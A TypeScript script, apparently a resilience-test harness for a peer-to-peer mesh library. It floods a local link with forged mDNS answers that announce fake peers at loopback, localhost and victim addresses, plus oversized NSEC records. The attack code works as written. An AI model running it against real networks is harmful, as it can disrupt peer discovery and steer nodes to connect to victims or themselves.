/**
 * Answers by mDNS anyone who asks on its link, for an attack that is made from another namespace: thousands of peers in each
 * packet, at addresses of others and of the machine that asks, and records that nobody needs. `hostile-neighbour.ts SELF VICTIM KIND`;
 * prints what it counted, a line of JSON each second.
 */
import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { peerIdFromPublicKey } from '@mesh/core'

const MDNS = { address: '224.0.0.251', port: 5353 }
/** Where nothing of a peer is that is named all the same. */
const NAMED_PORT = 5_001
const [A, PTR, TXT, SRV, NSEC, IN] = [1, 12, 16, 33, 47, 1]
const PEERS_IN_PACKET = 60

const [self = '', victim = '', kind = 'mesh'] = process.argv.slice(2)
const counts: Record<string, number> = {}
const count = (what: string, times = 1) => {
  counts[what] = (counts[what] ?? 0) + times
}

const labels = (name: string) =>
  Buffer.concat([
    ...name.split('.').map((each) => Buffer.from([each.length, ...Buffer.from(each)])),
    Buffer.of(0),
  ])

function record(name: Buffer, type: number, content: Buffer): Buffer {
  const head = Buffer.alloc(10)
  head.writeUInt16BE(type, 0)
  head.writeUInt16BE(IN, 2)
  head.writeUInt32BE(120, 4)
  head.writeUInt16BE(content.length, 8)
  return Buffer.concat([name, head, content])
}

function packet(records: readonly Buffer[]): Buffer {
  const head = Buffer.alloc(12)
  head[2] = 0x84
  head.writeUInt16BE(records.length, 6)
  return Buffer.concat([head, ...records])
}

/** Tells of peers that there are not, by turns at each address. */
function tales(service: string): Buffer {
  const name = labels(`i.${service}`)
  const addresses = [
    `/ip4/127.0.0.1/tcp/${NAMED_PORT}`,
    `/ip4/${victim}/tcp/${NAMED_PORT}`,
    `/dns4/localhost/tcp/${NAMED_PORT}`,
    '/ip4/203.0.113.1/tcp/443',
    `/ip4/${self}/tcp/4001`,
  ]
  const texts = Array.from({ length: PEERS_IN_PACKET }, (_, at) => {
    const text = `dnsaddr=${addresses[at % addresses.length]}/p2p/${peerIdFromPublicKey(randomBytes(32))}`
    return Buffer.from([text.length, ...Buffer.from(text)])
  })
  if (kind === 'legacy') return wholeAnswer(service, Buffer.concat(texts))
  return packet(texts.map((text) => record(name, TXT, text)))
}

/** All of one answer: legacy nodes read the texts of none that does not say where its host is, and each name once. */
function wholeAnswer(service: string, texts: Buffer): Buffer {
  const own = randomBytes(16).toString('hex')
  const [name, host] = [labels(`${own}.${service}`), labels(`${own}.local`)]
  return packet([
    record(labels(service), PTR, name),
    record(name, SRV, Buffer.concat([Buffer.alloc(4), Buffer.of(0x0f, 0xa1), host])),
    record(name, TXT, texts),
    record(host, A, Buffer.from(self.split('.').map(Number))),
  ])
}

/** A record that says for each type of record whether there is one. */
const NEEDLESS = packet([
  record(
    Buffer.of(0),
    NSEC,
    Buffer.concat([
      Buffer.of(0),
      ...Array.from({ length: 250 }, (_, at) => Buffer.concat([Buffer.of(at, 32), Buffer.alloc(32, 255)])),
    ]),
  ),
])

/** Reads the name that a packet asks for first. */
function asked(bytes: Buffer): string | undefined {
  if (bytes.length < 14 || (bytes[2] ?? 0) >= 0x80) return undefined
  const words: string[] = []
  for (let at = 12; at < bytes.length; ) {
    const length = bytes[at] ?? 0
    if (length === 0 || length > 63) break
    words.push(bytes.toString('latin1', at + 1, at + 1 + length))
    at += 1 + length
  }
  return words.length < 2 ? undefined : words.join('.')
}

const socket = createSocket({ type: 'udp4', reuseAddr: true })
socket.on('error', () => {})
let service: string | undefined
socket.on('message', (bytes) => {
  service ??= asked(bytes)
})
socket.bind(MDNS.port, () => {
  socket.addMembership(MDNS.address, self)
  socket.setMulticastInterface(self)
})
// some 400 packets a second
setInterval(() => {
  if (service === undefined) return
  for (let at = 0; at < 4; at++)
    socket.send(at % 2 === 0 ? tales(service) : NEEDLESS, MDNS.port, MDNS.address)
  count('packets', 4)
  count('peers told of', 2 * PEERS_IN_PACKET)
}, 10)
setInterval(() => console.log(JSON.stringify(counts)), 500)
